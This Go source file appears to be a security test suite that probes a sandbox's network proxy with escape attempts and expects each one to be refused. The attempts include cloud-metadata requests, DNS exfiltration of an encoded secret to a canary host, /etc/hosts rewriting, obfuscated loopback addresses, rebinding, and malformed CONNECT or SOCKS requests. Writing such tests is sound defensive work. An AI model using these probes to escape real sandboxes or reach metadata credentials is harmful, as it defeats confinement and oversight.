package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func directAttempts() []attempt {
	dial := func(network, addr string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, _ *attacker) (string, error) { return unreached(ctx, network, addr) }
	}
	socket := func(domain, kind, protocol int) func(context.Context, *attacker) (string, error) {
		return func(context.Context, *attacker) (string, error) {
			fd, err := unix.Socket(domain, kind, protocol)
			if err != nil {
				return err.Error(), nil
			}
			unix.Close(fd)
			return "", fmt.Errorf("socket(%d, %d, %d) is given", domain, kind, protocol)
		}
	}
	list := []attempt{
		{name: "direct-ipv4", what: "TCP to a public IPv4 address", try: dial("tcp", "1.1.1.1:443")},
		{name: "direct-ipv6", what: "TCP to a public IPv6 address", try: dial("tcp", "[2606:4700:4700::1111]:443")},
		{name: "direct-udp", what: "UDP to a public address, as for QUIC", try: func(ctx context.Context, _ *attacker) (string, error) {
			return datagram(ctx, "1.1.1.1:443")
		}},
		{name: "direct-metadata", what: "TCP to the cloud's metadata address", try: dial("tcp", "169.254.169.254:80")},
		{name: "direct-host-address", what: "TCP to the host's own addresses on its network", try: func(ctx context.Context, a *attacker) (string, error) {
			return each(append(a.HostAddrs, "172.17.0.1"), func(ip string) (string, error) {
				return unreached(ctx, "tcp", net.JoinHostPort(ip, strconv.Itoa(a.HostPort)))
			})
		}},
		{name: "direct-host-loopback", what: "a server on the host's loopback, by the loopback of the sandbox", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"127.0.0.1", "127.0.0.2", "::1", "0.0.0.0", "host.docker.internal"}, func(ip string) (string, error) {
				return unreached(ctx, "tcp", net.JoinHostPort(ip, strconv.Itoa(a.HostPort)))
			})
		}},
		{name: "raw-icmp", what: "a raw socket for ICMP", try: socket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP)},
		{name: "packet-socket", what: "a packet socket, below IP", try: socket(unix.AF_PACKET, unix.SOCK_RAW, 0x300)},
		{name: "vsock", what: "a socket to a hypervisor's host", try: func(context.Context, *attacker) (string, error) {
			fd, err := unix.Socket(unix.AF_VSOCK, unix.SOCK_STREAM, 0)
			if err != nil {
				return err.Error(), nil
			}
			defer unix.Close(fd)
			if err := unix.Connect(fd, &unix.SockaddrVM{CID: unix.VMADDR_CID_HOST, Port: 22}); err != nil {
				return err.Error(), nil
			}
			return "", fmt.Errorf("connected to the host over vsock")
		}},
		{name: "tun-device", what: "a network device of its own", try: func(context.Context, *attacker) (string, error) {
			fd, err := unix.Open("/dev/net/tun", unix.O_RDWR, 0)
			if err != nil {
				return err.Error(), nil
			}
			defer unix.Close(fd)
			req, err := unix.NewIfreq("tun7")
			if err != nil {
				return "", err
			}
			req.SetUint16(unix.IFF_TUN)
			if err := unix.IoctlIfreq(fd, unix.TUNSETIFF, req); err != nil {
				return err.Error(), nil
			}
			return "", fmt.Errorf("made a device")
		}},
		{name: "abstract-socket", what: "an abstract unix socket of the host", try: func(ctx context.Context, a *attacker) (string, error) {
			return unreached(ctx, "unix", "@"+a.Abstract)
		}},
		{name: "other-way-out", what: "another sandbox's way out, the daemon's socket and published ports of others", try: func(ctx context.Context, a *attacker) (string, error) {
			return each(a.Sockets, func(path string) (string, error) { return unreached(ctx, "unix", path) })
		}},
		{name: "new-network-namespace", what: "a network namespace of its own, and a public address from there", try: func(ctx context.Context, _ *attacker) (string, error) {
			if err := unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNET); err != nil {
				return err.Error(), nil
			}
			return unreached(ctx, "tcp", "1.1.1.1:443")
		}},
	}
	return grouped(groupDirect, list)
}

func grouped(group string, list []attempt) []attempt {
	for i := range list {
		list[i].group = group
	}
	return list
}

// datagram sends one and wants it refused, not just unanswered.
func datagram(ctx context.Context, addr string) (string, error) {
	d := net.Dialer{Timeout: 2 * time.Second}
	c, err := d.DialContext(ctx, "udp", addr)
	if err != nil {
		return err.Error(), nil
	}
	defer c.Close()
	if _, err := c.Write([]byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01")); err != nil {
		return err.Error(), nil
	}
	c.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
	if _, err := c.Read(make([]byte, 512)); err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
		return err.Error(), nil
	}
	return "", fmt.Errorf("it was sent to %s", addr)
}

const denied = "No matching allow rule"

func nameAttempts() []attempt {
	proxied := func(target string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) { return a.denied(ctx, "GET", target) }
	}
	list := []attempt{
		{name: "dns-system", what: "the system's resolver, for a name that carries data", try: func(ctx context.Context, _ *attacker) (string, error) {
			addrs, err := net.DefaultResolver.LookupHost(ctx, "c2VjcmV0.canary.test")
			if err != nil {
				return err.Error(), nil
			}
			return "", fmt.Errorf("resolved to %v", addrs)
		}},
		{name: "dns-udp", what: "a name server over UDP: public, the host's, the sandbox's loopback", try: func(ctx context.Context, _ *attacker) (string, error) {
			return each([]string{"8.8.8.8:53", "127.0.0.53:53", "127.0.0.1:53", "[2001:4860:4860::8888]:53"}, func(addr string) (string, error) {
				return datagram(ctx, addr)
			})
		}},
		{name: "dns-tcp", what: "a name server over TCP", try: func(ctx context.Context, _ *attacker) (string, error) {
			return each([]string{"8.8.8.8:53", "127.0.0.53:53"}, func(addr string) (string, error) { return unreached(ctx, "tcp", addr) })
		}},
		{name: "mdns", what: "multicast DNS", try: func(ctx context.Context, _ *attacker) (string, error) { return datagram(ctx, "224.0.0.251:5353") }},
		{name: "dns-over-tls", what: "DNS over TLS through the proxy", try: func(ctx context.Context, a *attacker) (string, error) {
			return a.inside(ctx, "dns.google:853", "dns.google", "\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01\r\n\r\n")
		}, host: "dns.google:853", reason: denied},
		{name: "dns-over-https", what: "DNS over HTTPS through the proxy", try: proxied("https://dns.google/resolve?name=c2VjcmV0.canary.test"), host: "dns.google:443", reason: denied},
		{name: "dns-by-proxy", what: "a denied name that carries data, so that the proxy looks it up", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"http://c2VjcmV0.canary.test/", "https://c2VjcmV0.canary.test/"}, func(target string) (string, error) {
				return a.denied(ctx, "GET", target)
			})
		}, host: "c2vjcmv0.canary.test:443", reason: denied},
		{name: "hosts-file", what: "a denied name that the sandbox's own hosts file leads elsewhere", try: func(ctx context.Context, a *attacker) (string, error) {
			if err := appendFile("/etc/hosts", "127.0.0.1 open.test evil.test\n"); err != nil {
				return err.Error(), nil
			}
			return a.denied(ctx, "GET", "https://evil.test/")
		}, host: "evil.test:443", reason: denied},
	}
	return grouped(groupNames, list)
}

func addressAttempts() []attempt {
	port := func(a *attacker) string { return strconv.Itoa(a.HostPort) }
	// Both schemes, so that a plain request and a tunnel are tried.
	to := func(hosts ...string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) {
			return each(hosts, func(host string) (string, error) {
				return all(
					func() (string, error) { return a.denied(ctx, "GET", "http://"+host+":"+port(a)+"/") },
					func() (string, error) { return a.denied(ctx, "GET", "https://"+host+":"+port(a)+"/") },
				)
			})
		}
	}
	list := []attempt{
		{name: "metadata-address", what: "metadata addresses of the clouds, both families", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"169.254.169.254", "169.254.170.2", "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "192.0.0.192"}, func(ip string) (string, error) {
				return a.denied(ctx, "GET", "http://"+ip+"/latest/meta-data/", "X-Aws-Ec2-Metadata-Token-Ttl-Seconds: 60", "Metadata-Flavor: Google")
			})
		}, host: "169.254.169.254:80", reason: denied},
		{name: "metadata-name", what: "an allowed name that resolves to a metadata address", try: to("meta.test"), host: "meta.test", reason: "is metadata"},
		{name: "metadata-google", what: "the metadata server's own name", try: func(ctx context.Context, a *attacker) (string, error) {
			return a.denied(ctx, "GET", "http://metadata.google.internal/computeMetadata/v1/", "Metadata-Flavor: Google")
		}, host: "metadata.google.internal:80", reason: denied},
		{name: "loopback-address", what: "the host's loopback by its addresses", try: to("127.0.0.1", "127.0.0.2", "[::1]"), host: "127.0.0.1", reason: denied},
		{name: "loopback-name", what: "an allowed name that resolves to loopback", try: to("loop.test", "loop6.test"), host: "loop.test", reason: "is loopback"},
		{name: "loopback-mapped", what: "loopback as an IPv4 address inside an IPv6 one: mapped, compatible, NAT64, 6to4, Teredo", try: to("[::ffff:127.0.0.1]", "[::127.0.0.1]", "nat64.test", "6to4.test", "teredo.test"), host: "nat64.test", reason: "is NAT64"},
		{name: "loopback-spelled", what: "loopback spelled otherwise: decimal, octal, hexadecimal, short, percent signs", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"2130706433", "017700000001", "0x7f000001", "0x7f.1", "127.1", "0177.0.0.1", "127.0.0.1.", "%31%32%37.0.0.1", "①②⑦.0.0.1", "localhost", "LOCALHOST."}, func(host string) (string, error) {
				return a.raw(ctx, "GET http://"+host+":"+port(a)+"/ HTTP/1.1\r\nHost: "+host+":"+port(a)+"\r\nConnection: close\r\n\r\n")
			})
		}, host: "localhost", reason: "localhost is the sandbox itself"},
		{name: "unspecified-address", what: "0.0.0.0 and ::, which mean this machine", try: to("0.0.0.0", "[::]", "zero.test"), host: "zero.test", reason: "is unspecified"},
		{name: "private-address", what: "addresses of the host's networks, by address and by an allowed name", try: func(ctx context.Context, a *attacker) (string, error) {
			return each(append(a.HostAddrs, "lan.test", "10.0.0.1", "192.168.0.1", "100.64.0.1"), func(host string) (string, error) {
				if strings.Contains(host, ":") {
					host = "[" + host + "]"
				}
				return to(host)(ctx, a)
			})
		}, host: "lan.test", reason: "is private"},
		{name: "link-local-zone", what: "a link-local address with a zone", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"[fe80::1%25eth0]", "[fe80::1%eth0]", "[fe80::1]"}, func(host string) (string, error) {
				return a.raw(ctx, "GET http://"+host+"/ HTTP/1.1\r\nHost: "+host+"\r\nConnection: close\r\n\r\n")
			})
		}, host: "[fe80::1]:80", reason: denied},
		{name: "rebinding", what: "an allowed name whose address changes between two questions: it is asked once, and the answer that was decided on is the one dialled", try: to("flip.test"), host: "flip.test", reason: "no rule"},
		{name: "host-loopback-port", what: "a port of host.docker.internal that no rule names", try: func(ctx context.Context, a *attacker) (string, error) {
			return to("host.docker.internal")(ctx, a)
		}, host: "localhost", reason: denied},
		{name: "proxy-itself", what: "the proxy, through the proxy", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{
				"GET http://gateway.docker.internal:3128/ HTTP/1.1\r\nHost: gateway.docker.internal:3128\r\nConnection: close\r\n\r\n",
				"CONNECT gateway.docker.internal:3128 HTTP/1.1\r\nHost: gateway.docker.internal:3128\r\n\r\n",
				"GET http://GATEWAY.Docker.Internal.:3128/ HTTP/1.1\r\nHost: gateway.docker.internal:3128\r\nConnection: close\r\n\r\n",
			}, func(text string) (string, error) { return a.raw(ctx, text) })
		}, host: "gateway.docker.internal:3128", reason: "does not connect to itself"},
	}
	return grouped(groupAddress, list)
}

func connectAttempts() []attempt {
	connect := func(head string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) { return a.raw(ctx, head+"\r\n\r\n") }
	}
	blocked := func(target string) func(context.Context, *attacker) (string, error) {
		return func(ctx context.Context, a *attacker) (string, error) {
			host, _, _ := net.SplitHostPort(target)
			return a.inside(ctx, target, host, "GET / HTTP/1.1\r\nHost: "+target+"\r\nConnection: close\r\n\r\n")
		}
	}
	const self = "gateway.docker.internal:3128"
	list := []attempt{
		{name: "connect-denied", what: "a host that no rule names", try: blocked("evil.test:443"), host: "evil.test:443", reason: denied},
		{name: "connect-deny-rule", what: "a host that a rule denies", try: blocked("bad.test:443"), host: "bad.test:443", reason: "Denied by"},
		{name: "connect-other-port", what: "another port of an allowed host", try: blocked("api.github.com:8443"), host: "api.github.com:8443", reason: denied},
		{name: "connect-ssh", what: "SSH to an allowed host", try: func(ctx context.Context, a *attacker) (string, error) {
			c, err := a.connect(ctx, "api.github.com:22")
			if err != nil {
				return err.Error(), nil
			}
			defer c.Close()
			c.Write([]byte("SSH-2.0-attack\r\n"))
			answer, err := drain(c)
			if err != nil {
				return err.Error(), nil
			}
			return "", fmt.Errorf("answer %q", answer)
		}, host: "api.github.com:22", reason: denied},
		{name: "connect-address", what: "the address of an allowed host in place of its name", try: blocked("127.0.0.1:443"), host: "127.0.0.1:443", reason: denied},
		{name: "connect-no-port", what: "no port, port 0, a port too large, two ports", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"open.test", "open.test:", "open.test:0", "open.test:65536", "open.test:443:22", "open.test:+443", "[open.test]:443"}, func(target string) (string, error) {
				return a.raw(ctx, "CONNECT "+target+" HTTP/1.1\r\nHost: open.test\r\n\r\n")
			})
		}, host: self, reason: "CONNECT needs HOST:PORT"},
		{name: "connect-url", what: "a URL as the target", try: connect("CONNECT https://open.test:443/ HTTP/1.1\r\nHost: open.test"), host: self, reason: "CONNECT needs HOST:PORT"},
		{name: "connect-body", what: "CONNECT with a body", try: connect("CONNECT open.test:443 HTTP/1.1\r\nHost: open.test:443\r\nContent-Length: 3\r\n\r\nabc"), host: "open.test:443", reason: "CONNECT with a body"},
		{name: "connect-host-header", what: "a Host header that is not the target", try: connect("CONNECT open.test:443 HTTP/1.1\r\nHost: evil.test:443"), host: "open.test:443", reason: "Host header does not match"},
		{name: "connect-nested", what: "CONNECT inside an intercepted CONNECT", try: func(ctx context.Context, a *attacker) (string, error) {
			return a.inside(ctx, "api.github.com:443", "api.github.com", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n")
		}, host: "api.github.com:443", reason: "CONNECT inside CONNECT"},
		{name: "socks", what: "SOCKS 4 and 5 on the proxy's port", try: func(ctx context.Context, a *attacker) (string, error) {
			return each([]string{"\x05\x01\x00\r\n\r\n", "\x04\x01\x01\xbb\x01\x01\x01\x01\x00\r\n\r\n"}, func(text string) (string, error) { return a.raw(ctx, text) })
		}, host: self, reason: "Malformed request"},
	}
	return grouped(groupConnect, list)
}
